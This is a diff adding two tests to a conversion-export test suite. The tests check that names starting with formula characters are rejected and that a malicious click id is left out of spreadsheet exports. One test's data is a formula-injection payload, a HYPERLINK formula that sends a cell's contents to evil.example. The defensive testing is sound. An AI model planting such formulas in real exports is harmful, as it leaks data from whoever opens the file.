@@ -172,6 +172,32 @@ describe('GET /exports/offline-conversions', () => {
     expect([status, invalidFields.map(({ field }) => field).toSorted()]).toEqual([422, fields ?? all]);
   });
 
+  test('takes no name for a table that a spreadsheet would run', async () => {
+    for (const conversionName of ['=1+2', '+1', '-1', '@a', '＝1']) {
+      const statusOf = async (platform: string) =>
+        (await answerTo(platform, { conversionName, sourceId: 'PIXEL' })).status;
+      for (const platform of offlinePlatformNames) {
+        const isTable = /^(?:google-ads(?!-api)|microsoft)/.test(platform);
+        expect([platform, await statusOf(platform)]).toEqual([platform, isTable ? 422 : 200]);
+      }
+    }
+  });
+
+  test('leaves out what a visitor wrote in the place of a click id', async () => {
+    await using shop = await startTestService({}, clock.now);
+    const { key } = await publishableKey(shop);
+    const visitorId = freshVisitor();
+    const wrong = encodeURIComponent('=HYPERLINK("https://evil.example/?"&A3,"ok")');
+    await capture(shop, key, { visitorId, url: `https://shop.example/?gclid=${wrong}` });
+    clock.advance(1000);
+    await shop.call('POST', '/customers/c/visitors', { body: { visitorId } });
+    const body = { id: 'con', customerId: 'c', amount: '5.00', currency: 'EUR', orderId: '=1+2' };
+    await shop.call('POST', '/conversions', { body });
+    const reason = 'What came as a gclid has characters that no click id has.';
+    const answer = await answerTo('google-ads-multi-touch', {}, shop);
+    expect(answer).toMatchObject({ files: [], leftOut: [{ conversionId: 'con', reason }] });
+  });
+
   test('takes a name of 255 characters, however many bytes they are', async () => {
     expect((await answerTo('google-ads', { conversionName: '😀'.repeat(255) })).status).toBe(200);
     expect((await answerTo('google-ads', { conversionName: '😀'.repeat(256) })).status).toBe(422);
